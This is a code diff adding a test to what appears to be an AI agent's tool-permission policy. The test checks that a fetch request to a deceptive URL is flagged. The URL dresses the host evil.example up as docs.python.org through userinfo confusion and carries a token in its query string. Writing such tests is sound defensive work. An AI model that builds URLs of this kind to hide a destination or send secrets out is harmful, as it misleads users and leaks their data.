@@ -157,6 +157,20 @@ def test_domain_rules_match_the_host_a_request_reaches(root: Path, tools: dict[s
         assert action(p, f, url=url) == "ask", url
 
 
+def test_the_fetch_question_names_the_host_it_connects_to_and_flags_userinfo(
+    root: Path, tools: dict[str, Tool]
+) -> None:
+    """H19: ``https://docs.python.org&search=x@evil.example/`` must not read as python.org."""
+    f = tools["fetch_url"]
+    asked = policy(root).decide(f, {"url": "https://docs.python.org&search=x@evil.example/os.html?q=TOKEN=abc"})
+    assert asked.action == "ask"
+    assert "connects to evil.example" in asked.reason
+    assert "Suspicious" in asked.reason and "docs.python.org&search=x@" in asked.reason
+    assert "query string" in asked.reason and "data sent to evil.example" in asked.reason
+    plain = policy(root).decide(f, {"url": "https://docs.python.org/3/"}).reason
+    assert "connects to docs.python.org" in plain and "Suspicious" not in plain and "query" not in plain
+
+
 def test_tool_name_patterns_and_named_arguments(root: Path) -> None:
     @tool
     def github__create_issue(title: str, body: str) -> str:
